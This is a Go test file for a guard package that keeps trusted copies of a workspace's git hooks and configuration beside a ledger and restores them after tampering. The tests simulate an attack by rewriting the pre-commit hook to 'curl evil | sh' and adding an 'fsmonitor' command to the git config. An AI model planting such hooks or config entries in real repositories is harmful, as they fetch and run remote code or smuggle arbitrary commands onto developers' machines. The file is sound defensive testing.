package guard

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"maps"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestContentsBesideLedger: the trusted contents live beside the ledger,
// not in its JSON, and a command's change to a guarded file is still put
// back from them, by a later reader of the ledger.
func TestContentsBesideLedger(t *testing.T) {
	p, state := bareWorkspace(t)
	ws := p.Workspace
	hook := filepath.Join(ws, ".git", "hooks", "pre-commit")
	person := []byte("#!/bin/sh\n# the person's own hook, kept whole\nexec make lint\n")
	Release(state, ws)
	if err := os.WriteFile(hook, person, 0o755); err != nil {
		t.Fatal(err)
	}
	config := filepath.Join(ws, ".git", "config")
	trustedConfig, _ := os.ReadFile(config)
	if _, err := Hold(state, p); err != nil {
		t.Fatal(err)
	}
	file := ledgerFile(state, ws)
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(data, []byte(base64.StdEncoding.EncodeToString(person))) || bytes.Contains(data, []byte(`"d":`)) {
		t.Errorf("the ledger's JSON holds contents:\n%s", data)
	}
	kept, err := os.ReadFile(contentsFile(file))
	if err != nil || !bytes.Contains(kept, person) || !bytes.Contains(kept, trustedConfig) {
		t.Fatalf("the contents file does not hold the hook and the configuration (%v)", err)
	}
	// A command rewrites both.
	os.WriteFile(hook, []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
	os.WriteFile(config, append(bytes.Clone(trustedConfig), "[core]\n\tfsmonitor = touch x\n"...), 0o644)
	if got, ok := TrustedContent(state, ws, hook); !ok || !bytes.Equal(got, person) {
		t.Errorf("TrustedContent: %q %v, want the person's hook", got, ok)
	}
	lines, err := Reconcile(state, ws)
	if err != nil {
		t.Fatal(err)
	}
	if got, _ := os.ReadFile(hook); !bytes.Equal(got, person) {
		t.Errorf("the hook is not put back: %q\n%s", got, strings.Join(lines, "\n"))
	}
	if got, _ := os.ReadFile(config); !bytes.Equal(got, trustedConfig) {
		t.Errorf("the configuration is not put back: %q", got)
	}
	// The contents file damaged (a byte changed): no content is taken
	// from it, and the change is moved aside, never put back wrong.
	Release(state, ws)
	if _, err := Hold(state, p); err != nil {
		t.Fatal(err)
	}
	kept, _ = os.ReadFile(contentsFile(file))
	i := bytes.Index(kept, person)
	kept[i+12] ^= 1
	os.WriteFile(contentsFile(file), kept, 0o600)
	if _, ok := TrustedContent(state, ws, hook); ok {
		t.Error("a damaged content is trusted")
	}
	os.WriteFile(hook, []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
	Reconcile(state, ws)
	if got, err := os.ReadFile(hook); err == nil && !bytes.Equal(got, person) {
		t.Errorf("with the contents damaged, the hook is %q: want the person's or none", got)
	}
}

// TestContentsEncoding round-trips a ledger's contents, reads a ledger
// written before (contents inline in its JSON), and refuses damaged
// contents files entry by entry.
func TestContentsEncoding(t *testing.T) {
	big := bytes.Repeat([]byte("x"), 100)
	mk := func() *ledger {
		return &ledger{
			Trusted: state{
				"/ws/.git/hooks/a":     {Kind: 'f', Data: []byte("hook a\n"), Sum: hashOf([]byte("hook a\n")), Size: 7},
				"/ws/.git/hooks/same":  {Kind: 'f', Data: []byte("hook a\n"), Sum: hashOf([]byte("hook a\n")), Size: 7},
				"/ws/.git/hooks/empty": {Kind: 'f', Sum: emptySum},
				"/ws/.git/hooks/large": {Kind: 'f', Sum: hashOf(big), Size: 100}, // too large: kept as a sum
				"/ws/.git/hooks":       {Kind: 'd', Names: []string{"a"}},
			},
			TrustedConfigs: state{"/ws/.git/config": {Kind: 'f', Data: big, Sum: hashOf(big), Size: 100}},
		}
	}
	l := mk()
	data := encodeContents(l, nil)
	js, _ := json.Marshal(l)
	var back ledger
	if err := json.Unmarshal(js, &back); err != nil {
		t.Fatal(err)
	}
	if _, err := decodeContents(data, &back); err != nil {
		t.Fatal(err)
	}
	want := mk()
	for _, pair := range [][2]state{{want.Trusted, back.Trusted}, {want.TrustedConfigs, back.TrustedConfigs}} {
		for path, e := range pair[0] {
			if got := pair[1][path]; got == nil || !bytes.Equal(got.Data, e.Data) || (got.Data == nil) != (e.Data == nil) || got.Kept {
				t.Errorf("%s: %+v, want %+v", path, got, e)
			}
		}
	}
	if n := bytes.Count(data, []byte("hook a\n")); n != 1 {
		t.Errorf("the same content is kept %d times", n)
	}
	// Written before: "d" in the JSON.
	var old ledger
	json.Unmarshal([]byte(`{"workspace":"/ws","trusted":{"/ws/.envrc":{"k":102,"d":"ZXhwb3J0IEE9MQo=","s":"x","z":9}}}`), &old)
	decodeContents(nil, &old)
	if e := old.Trusted["/ws/.envrc"]; e == nil || string(e.Data) != "export A=1\n" {
		t.Errorf("a ledger written before: %+v", e)
	}
	// Damaged: cut short, a length past the end, a wrong header.
	for name, bad := range map[string][]byte{
		"cut short":   data[:len(data)-3],
		"long length": append(append([]byte(contentsHeader), bytes.Repeat([]byte{1}, 32)...), 0xff, 0, 0, 0, 0, 0, 0, 0),
		"header":      append([]byte("cordon guard contents 9\n"), data[len(contentsHeader):]...),
	} {
		var l ledger
		json.Unmarshal(js, &l)
		if _, err := decodeContents(bad, &l); err == nil {
			t.Errorf("%s: no error", name)
		}
		for path, e := range l.Trusted {
			if e.Data != nil && !bytes.Equal(e.Data, want.Trusted[path].Data) {
				t.Errorf("%s: %s holds %q", name, path, e.Data)
			}
		}
	}
}

// TestContentsCrashBetweenWrites: a save writes the contents file before
// the ledger; a crash between the two (or a reader between them) leaves
// the older ledger, whose contents must still be there.
func TestContentsCrashBetweenWrites(t *testing.T) {
	p, state := bareWorkspace(t)
	ws := p.Workspace
	Release(state, ws) // (no watch saving meanwhile)
	config := filepath.Join(ws, ".git", "config")
	file := ledgerFile(state, ws)
	oldLedger, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	trusted, ok := TrustedContent(state, ws, config)
	if !ok {
		t.Fatal("no trusted configuration")
	}
	// One save that trusts another configuration.
	b, err := open(state, ws, false)
	if err != nil {
		t.Fatal(err)
	}
	changed := append(bytes.Clone(trusted), "[core]\n\tfilemode = false\n"...)
	e := *b.l.TrustedConfigs[config]
	e.Data, e.Sum, e.Size, e.Stamp = changed, hashOf(changed), int64(len(changed)), ""
	b.l.TrustedConfigs[config] = &e
	if err := b.save(); err != nil {
		t.Fatal(err)
	}
	b.close()
	if got, ok := TrustedContent(state, ws, config); !ok || !bytes.Equal(got, changed) {
		t.Fatalf("after the save: %q %v", got, ok)
	}
	// The ledger's rename never happened.
	os.WriteFile(file, oldLedger, 0o600)
	if got, ok := TrustedContent(state, ws, config); !ok || !bytes.Equal(got, trusted) {
		t.Errorf("the older ledger's configuration is not found: %q %v", got, ok)
	}
	// It is dropped at the save after the next.
	for range 2 {
		b, err := open(state, ws, false)
		if err != nil {
			t.Fatal(err)
		}
		b.l.TrustedConfigs[config] = &e
		b.save()
		b.close()
	}
	// Two saves later the file holds what the ledger names, no more.
	js, _ := os.ReadFile(file)
	var l ledger
	json.Unmarshal(js, &l)
	named := map[string]bool{}
	for _, st := range l.states() {
		for _, e := range st {
			if e != nil && e.Kept {
				named[e.Sum] = true
			}
		}
	}
	kept, _ := os.ReadFile(contentsFile(file))
	held := map[string]bool{}
	for rest := kept[len(contentsHeader):]; len(rest) >= 40; {
		n := binary.BigEndian.Uint64(rest[32:40])
		held[hex.EncodeToString(rest[:32])] = true
		rest = rest[40+n:]
	}
	if !maps.Equal(named, held) {
		t.Errorf("two saves later the contents file holds %d contents, the ledger names %d", len(held), len(named))
	}
}

// TestContentsOneBadRecord: a content that does not match its sum is
// not kept, and the others are; one longer than maxFile (a file that grew
// while it was read) is not kept at all.
func TestContentsOneBadRecord(t *testing.T) {
	small := []byte("hook\n")
	l := &ledger{Trusted: state{
		"/ws/a": {Kind: 'f', Data: []byte("aaaa"), Sum: hashOf([]byte("aaaa")), Size: 4},
		"/ws/b": {Kind: 'f', Data: small, Sum: hashOf(small), Size: 5},
	}}
	data := encodeContents(l, nil)
	js, _ := json.Marshal(l)
	data[len(contentsHeader)+40] ^= 1 // the first record's first byte
	var back ledger
	json.Unmarshal(js, &back)
	if _, err := decodeContents(data, &back); err == nil {
		t.Error("a changed byte: no error")
	}
	kept := 0
	for path, e := range back.Trusted {
		if e.Data != nil {
			kept++
			if !bytes.Equal(e.Data, l.Trusted[path].Data) {
				t.Errorf("%s holds %q", path, e.Data)
			}
		}
	}
	if kept != 1 {
		t.Errorf("one changed byte: %d contents kept, want the other one", kept)
	}
	big := bytes.Repeat([]byte("x"), maxFile+1)
	l = &ledger{Trusted: state{
		"/ws/big":   {Kind: 'f', Data: big, Sum: hashOf(big), Size: int64(len(big))},
		"/ws/small": {Kind: 'f', Data: small, Sum: hashOf(small), Size: 5},
	}}
	data = encodeContents(l, nil)
	if bytes.Contains(data, big) {
		t.Error("a content longer than maxFile is kept")
	}
	js, _ = json.Marshal(l)
	back = ledger{}
	json.Unmarshal(js, &back)
	decodeContents(data, &back)
	if !bytes.Equal(back.Trusted["/ws/small"].Data, small) || back.Trusted["/ws/big"].Data != nil {
		t.Errorf("small %q, big kept %v", back.Trusted["/ws/small"].Data, back.Trusted["/ws/big"].Data != nil)
	}
}
